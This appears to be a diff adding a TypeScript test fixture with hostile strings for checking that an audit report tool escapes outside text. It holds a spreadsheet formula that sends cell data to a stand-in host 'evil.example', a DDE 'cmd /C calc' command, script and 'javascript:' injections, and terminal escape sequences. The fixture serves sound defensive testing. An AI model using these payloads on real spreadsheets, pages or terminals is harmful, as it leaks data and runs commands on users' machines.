@@ -1,0 +1,125 @@
+import type { AuditResult } from '../../src/model/report.ts';
+
+/** Names as an attacker would write them. */
+export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
+  ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
+  ['a formula behind a space', ' =1+1'],
+  ['a formula behind a no-break space', '\u00a0=1+1'],
+  ['a formula behind a byte order mark', '\ufeff=1+1'],
+  ['a formula behind a zero-width space', '\u200b=1+1'],
+  ['a formula behind a bidirectional override', '\u202e=1+1'],
+  ['a formula behind a Hangul filler', '\u3164=1+1'],
+  ['a formula behind a blank Braille pattern', '\u2800=1+1'],
+  ['a formula behind a combining mark', '\u0301=1+1'],
+  ['a plus', '+1'],
+  ['a minus', '-2+3'],
+  ['a minus sign', '\u22122'],
+  ['an at sign', '@SUM(A1)'],
+  ['a pipe', "|cmd /C calc'!A0"],
+  ['a percent sign', '%0A'],
+  ['a tab', '\t=1'],
+  ['a carriage return', '\r=1'],
+  ['a line feed', '\n=1'],
+  ['a NUL', '\0=1'],
+  ['a full-width equals sign', '＝1+1'],
+  ['a full-width plus', '＋1'],
+  ['a full-width minus', '－1'],
+  ['a full-width at sign', '＠SUM(A1)'],
+  ['a small equals sign', '﹦1+1'],
+  ['a DDE command', '=cmd|"/C calc"!A0'],
+  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
+  ['Markdown', '[click](javascript:alert(1)) ![x](https://evil.example/x) `code`'],
+  ['ANSI colours and a cleared screen', '\u001b[31mred\u001b[0m\u001b[2J'],
+  ['a terminal title', '\u001b]0;owned\u0007'],
+  ['a C1 control sequence', '\u009b31mred'],
+  ['a terminal hyperlink', '\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\'],
+  ['a forged line', 'a\r\nFindings    none\u2028Findings    none\u2029\u0085'],
+  ['quotes and commas', '","",a"b,"c'],
+  ['a bidirectional override', 'abc\u202etxt.exe\u2066x\u2069'],
+  ['zero-width characters and tags', 'a\u200bd\u200dm\u2060in\u{e0041}\u{e0042}'],
+  ['lone surrogates', 'a\ud800b\udc00'],
+  ['stacked marks', `a${'\u0301'.repeat(500)}`],
+  ['64 KB in one word', 'x'.repeat(65_536)],
+  ['64 KB of wide characters', '宽'.repeat(32_768)],
+  ['64 KB of marks', '\u0301'.repeat(32_768)],
+  ['64 KB of words', 'word '.repeat(13_107)],
+  ['64 KB of spaces', ' '.repeat(65_536)],
+  ['64 KB of line feeds', '\n'.repeat(65_536)],
+  ['nothing', ''],
+];
+
+/** Fields whose values the model fixes; all others hold text from outside. */
+const fixedFields = new Set([
+  'environment',
+  'is',
+  'lifetime',
+  'binding',
+  'status',
+  'duration',
+  'class',
+  'party',
+  'mechanism',
+  'external',
+  'severity',
+  'confidence',
+  'owasp',
+  'facets',
+  'gives',
+  'provider',
+  'providers',
+  'sensitivity',
+  'standings',
+  'collectedAt',
+  'settings',
+  'fingerprint',
+]);
+
+/** Times as well, for documents whose schema is to hold. */
+export const timeFields: readonly string[] = [
+  'createdAt',
+  'expiresAt',
+  'lastUsedAt',
+  'until',
+  'observedSince',
+];
+
+const rewriting = (change: (text: string) => string, fixed: ReadonlySet<string>) => {
+  const rewrite = (value: unknown): unknown => {
+    if (typeof value === 'string') return change(value);
+    if (Array.isArray(value)) return value.map(rewrite);
+    if (typeof value === 'object' && value !== null && Object.getPrototypeOf(value) === Object.prototype) {
+      return Object.fromEntries(
+        Object.entries(value).map(([key, item]) => [key, fixed.has(key) ? item : rewrite(item)]),
+      );
+    }
+    return value;
+  };
+  return rewrite;
+};
+
+/** The same result with every text from outside changed in the same way, ids included, so that they still match. */
+export const withTexts = (
+  result: AuditResult,
+  change: (text: string) => string,
+  alsoFixed: readonly string[] = [],
+): AuditResult => {
+  const { reach } = result;
+  const scopePrefix = 'scope:';
+  const fixed = new Set([...fixedFields, ...alsoFixed]);
+  const rewrite = rewriting(
+    (text) =>
+      text.startsWith(scopePrefix) ? scopePrefix + change(text.slice(scopePrefix.length)) : change(text),
+    fixed,
+  );
+  const changed = rewrite({ ...result, reach: undefined }) as AuditResult;
+  return {
+    ...changed,
+    reach: {
+      ...reach,
+      radius: (index) => rewrite(reach.radius(index)) as ReturnType<typeof reach.radius>,
+      path: (index) => rewrite(reach.path(index)) as ReturnType<typeof reach.path>,
+      pathToControl: (index, scope) =>
+        rewrite(reach.pathToControl(index, scope)) as ReturnType<typeof reach.path>,
+    },
+  };
+};
